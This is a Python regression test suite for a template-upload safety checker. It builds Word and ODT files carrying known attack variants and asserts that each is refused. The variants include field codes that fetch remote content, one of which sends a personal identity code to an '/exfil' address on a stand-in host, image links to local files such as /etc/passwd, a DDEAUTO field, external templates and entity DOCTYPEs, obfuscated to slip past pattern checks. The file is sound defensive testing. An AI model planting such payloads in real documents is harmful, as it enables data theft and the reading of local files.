"""Template upload attacks that passed the old byte-pattern check, kept as a regression test:
every variant is refused at upload, and a version stored before the check was tightened is
refused when it is loaded, so it can never be rendered."""

from __future__ import annotations

import io
import re
import zipfile

import pytest

from service.registry import DOCUMENT_TYPES, TEMPLATES_DIR
from service.rendering.docx_template import TemplateInvalid
from service.wordtemplates.store import TemplateStore
from service.wordtemplates.upload_safety import UnsafeTemplate, check_odt_upload, check_upload

BASE = (TEMPLATES_DIR / "fi" / "mandate-agreement.docx").read_bytes()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
URL = "http://127.0.0.1:9999/sq.png"


def rebuild(base: bytes, change) -> bytes:
    """``base`` with its members changed by ``change(name, data) -> (name, data) | None``, plus any
    extra members ``change`` returns for the name None."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            changed = change(info.filename, source.read(info))
            if changed is not None:
                target.writestr(changed[0], changed[1])
        for name, data in (change(None, b"") or {}).items() if callable(change) else ():
            target.writestr(name, data)
    return out.getvalue()


def in_body(xml: str):
    """A change that puts ``xml`` at the top of the document's body."""
    def change(name, data):
        if name is None:
            return {}
        if name == "word/document.xml":
            return name, re.sub(rb"(<w:body[^>]*>)", lambda m: m.group(1) + xml.encode(), data, count=1)
        return name, data
    return change


def field(instruction: str) -> str:
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{instruction}'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def relationship(rels_part: str, rel_xml: str, body_xml: str = ""):
    def change(name, data):
        if name is None:
            return {}
        if name == rels_part:
            return name, data.replace(b"</Relationships>", rel_xml.encode() + b"</Relationships>")
        if name == "word/document.xml" and body_xml:
            return name, re.sub(rb"(<w:body[^>]*>)", lambda m: m.group(1) + body_xml.encode(), data, count=1)
        return name, data
    return change


PICTURE = ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
           'wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
           '<a:graphicData><a:blip r:link="rIdX"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>')
IMAGE = f"{REL}/image"


def renamed_main(name, data):
    """The main part moved to word/main.dat (declared so in [Content_Types].xml and _rels/.rels)."""
    if name is None:
        return {}
    if name == "word/document.xml":
        return "word/main.dat", re.sub(rb"(<w:body[^>]*>)", lambda m: m.group(1) + field(
            f'INCLUDEPICTURE "{URL}"').encode(), data, count=1)
    if name == "[Content_Types].xml":
        return name, data.replace(b'PartName="/word/document.xml"', b'PartName="/word/main.dat"')
    if name == "_rels/.rels":
        return name, data.replace(b'Target="word/document.xml"', b'Target="word/main.dat"')
    if name == "word/_rels/document.xml.rels":
        return "word/_rels/main.dat.rels", data
    return name, data


def utf16_document(name, data):
    if name is None:
        return {}
    if name == "word/document.xml":
        text = re.sub(rb"(<w:body[^>]*>)", lambda m: m.group(1) + field(f'INCLUDEPICTURE "{URL}"').encode(), data,
                      count=1).decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return name, text.encode("utf-16")
    return name, data


VARIANTS = {
    "image relationship in single quotes": relationship(
        "word/_rels/document.xml.rels", f"<Relationship Id='rIdX' Type='{IMAGE}' Target='{URL}' TargetMode='External'/>",
        PICTURE),
    "TargetMode as a character reference": relationship(
        "word/_rels/document.xml.rels", f'<Relationship Id="rIdX" Type="{IMAGE}" Target="{URL}" TargetMode="&#69;xternal"/>',
        PICTURE),
    "a local file as an image": relationship(
        "word/_rels/document.xml.rels",
        f"<Relationship Id='rIdX' Type='{IMAGE}' Target='file:///etc/lnp/secret.png' TargetMode='External'/>", PICTURE),
    "a file target without TargetMode": relationship(
        "word/_rels/document.xml.rels", f'<Relationship Id="rIdX" Type="{IMAGE}" Target="file:///etc/passwd"/>', PICTURE),
    "INCLUDE&#80;ICTURE": in_body(field(f'INCLUDE&#80;ICTURE "{URL}"')),
    "INCLUDE&#84;EXT": in_body(field('INCLUDE&#84;EXT "http://127.0.0.1:9999/t.docx"')),
    "DD&#69;AUTO": in_body(field('DD&#69;AUTO excel "c:\\\\x.xls" "A1"')),
    "lower-case includepicture": in_body(field(f'includepicture "{URL}"')),
    "fldSimple in single quotes": in_body(f"<w:p><w:fldSimple w:instr='INCLUDETEXT \"{URL}\"'/></w:p>"),
    "instrText in CDATA": in_body(field(f'<![CDATA[INCLUDETEXT "{URL}"]]>')),
    "instrText with another prefix": in_body(
        f'<w:p xmlns:x="{W}"><x:r><x:instrText>INCLUDEPICTURE "{URL}"</x:instrText></x:r></w:p>'),
    "a field split over runs": in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
        f'<w:r><w:instrText>PICTURE "{URL}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "the identity code to a remote address": in_body(field(
        'INCLUDEPICTURE "http://127.0.0.1:9999/exfil?h=-{{ children[0].hetu }}-"')),
    "an external attachedTemplate in single quotes": relationship(
        "word/_rels/settings.xml.rels" if False else "word/_rels/document.xml.rels",
        f"<Relationship Id='rIdT' Type='{REL}/attachedTemplate' Target='http://127.0.0.1:9999/t.dotm' "
        "TargetMode='External'/>"),
    "altChunk in single quotes": relationship(
        "word/_rels/document.xml.rels", f"<Relationship Id='rIdA' Type='{REL}/aFChunk' Target='../chunk.html'/>",
        '<w:altChunk r:id="rIdA"/>'),
    "a subDocument": relationship(
        "word/_rels/document.xml.rels",
        f'<Relationship Id="rIdS" Type="{REL}/subDocument" Target="\\\\\\\\server\\\\share\\\\x.docx" TargetMode="External"/>'),
    "the main part renamed to word/main.dat": renamed_main,
    "a UTF-16 main part": utf16_document,
    "an entity DOCTYPE in a part with no .xml name": lambda name, data: ({} if name is None else (
        ("word/extra.dat", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>') if name == "word/fontTable.xml"
        else (name, data))),
    "a malformed main part": lambda name, data: ({} if name is None else (
        (name, data.replace(b"</w:body>", b"</w:bod>")) if name == "word/document.xml" else (name, data))),
    "a malformed header": lambda name, data: ({} if name is None else (
        (name, data[: len(data) // 2]) if name.startswith("word/header") else (name, data))),
    "a UTF-32 styles part with an entity DOCTYPE": lambda name, data: ({} if name is None else (
        (name, '<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE s [<!ENTITY a "aaaaaaaa">]><s>&a;</s>'.encode(
            "utf-32")) if name == "word/styles.xml" else (name, data))),
    "an external link on an image element": in_body(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
        f"xmlns:o=\"urn:schemas-microsoft-com:office:office\" o:href='{URL}'/></v:shape></w:pict></w:r></w:p>"),
}


@pytest.mark.parametrize("name", list(VARIANTS))
def test_every_variant_is_refused_at_upload(name):
    with pytest.raises(UnsafeTemplate):
        check_upload(rebuild(BASE, VARIANTS[name]))


@pytest.mark.parametrize("name", list(VARIANTS))
def test_a_stored_version_is_refused_when_it_is_loaded(tmp_path, name):
    """A version stored before the check was tightened never renders: loading it fails."""
    from service.database.connection import Database
    from service.database.tables import template_versions

    database = Database(f"sqlite:///{tmp_path / 'lnp.sqlite3'}")
    database.upgrade()
    with database.write() as connection:
        connection.execute(template_versions.insert().values(
            type_id="mandate-agreement", language="fi", version=1, sha256="-", content=rebuild(BASE, VARIANTS[name]),
            uploader="x", uploaded_at="-", ok=True, report='{"ok": true, "findings": []}'))
    store = TemplateStore(database)
    with pytest.raises(TemplateInvalid):
        store.load(DOCUMENT_TYPES["mandate-agreement"], 1, "fi")


def test_the_built_in_templates_and_plain_hyperlinks_pass():
    for path in sorted(TEMPLATES_DIR.glob("*/*.docx")):
        check_upload(path.read_bytes())
    https = relationship("word/_rels/document.xml.rels",
                         f"<Relationship Id='rIdH' Type='{REL}/hyperlink' Target='https://www.hel.fi/' "
                         "TargetMode='External'/>")
    check_upload(rebuild(BASE, https))


def odt(content_xml: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        package.writestr("content.xml", content_xml)
        package.writestr("META-INF/manifest.xml", "<manifest/>")
    return out.getvalue()


@pytest.mark.parametrize("href", [f"'{URL}'", f'"{URL}"', "'file:///etc/passwd'", '"&#104;ttp://127.0.0.1:9999/x"'])
def test_an_odt_with_an_external_image_is_refused_before_libreoffice_opens_it(href):
    content = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
               'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><draw:frame>'
               f'<draw:image xlink:href={href}/></draw:frame></office:body></office:document-content>')
    with pytest.raises(UnsafeTemplate):
        check_odt_upload(odt(content))


def test_the_attack_figure(capsys):
    tried = len(VARIANTS)
    refused = 0
    for change in VARIANTS.values():
        try:
            check_upload(rebuild(BASE, change))
        except UnsafeTemplate:
            refused += 1
    with capsys.disabled():
        print(f"\ntemplate upload attack variants: {tried} tried, {refused} refused, {tried - refused} passed")
    assert refused == tried
